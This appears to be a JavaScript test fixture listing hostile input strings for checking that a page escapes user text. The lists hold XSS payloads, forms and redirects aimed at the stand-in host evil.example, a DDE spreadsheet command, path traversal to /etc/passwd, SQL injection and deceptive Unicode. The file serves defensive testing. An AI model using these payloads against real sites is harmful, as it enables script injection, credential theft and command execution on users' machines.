/** Tags and attributes that would run a program where a text is taken for HTML. */
const HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '<svg><script>alert(4)</script></svg>',
  '"><img src=x onerror=alert(5)>',
  "'><b onmouseover=alert(6)>b</b>",
  '</title><script>alert(7)</script>',
  '</textarea><script>alert(8)</script>',
  '<iframe srcdoc="<script>alert(9)</script>">',
  '<a href="javascript:alert(10)">link</a>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(11)>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<details open ontoggle=alert(12)>',
  '<!--<img src="--><img src=x onerror=alert(13)>',
  '&lt;script&gt;alert(14)&lt;/script&gt;',
  '&#x3c;script&#x3e;alert(15)',
  '{{constructor.constructor("alert(16)")()}}',
  '${alert(17)}',
];
/** Addresses that run a program or leave the page. */
const ADDRESSES = [
  'javascript:alert(20)',
  'JaVaScRiPt:alert(21)',
  ' javascript:alert(22)',
  'java\tscript:alert(23)',
  'data:text/html,<script>alert(24)</script>',
  'vbscript:msgbox(25)',
  '//evil.example/x',
  'https://evil.example/?q="><script>alert(26)</script>',
  'file:///etc/passwd',
  '../../../etc/passwd',
];
/** Characters that nobody sees or that turn what is written. */
const MARKS = [
  '\u202Egnp.exe',
  '\u2066left\u2069 \u2067right\u2069',
  'zero\u200Bwidth',
  'a\u0301\u0301\u0301\u0301\u0301',
  '\uFEFFmark',
  'line\u2028separator',
  'line\nfeed',
  'tab\ttab',
  'bell\u0007',
  'escape\u001B[31mred',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}',
  'ﷺ'.repeat(20),
  'שלום عليكم',
  '𝕳𝖆𝖈𝖐',
];
/** Texts that a spreadsheet takes for formulas. */
export const FORMULAS = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("https://evil.example","x")',
  '\t=1+1',
];
/** Names of what every object of JavaScript has. */
export const MEMBERS = ['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then'];
/** Texts of other languages and formats. */
const OTHERS = [
  "'; DROP TABLE x; --",
  '%00',
  '%s%n',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '../',
  '?a=b#c',
  '💣',
];

/** Texts with which users may try to break a page. */
export const HOSTILE_TEXTS = [...HTML, ...ADDRESSES, ...MARKS, ...FORMULAS, ...MEMBERS, ...OTHERS];
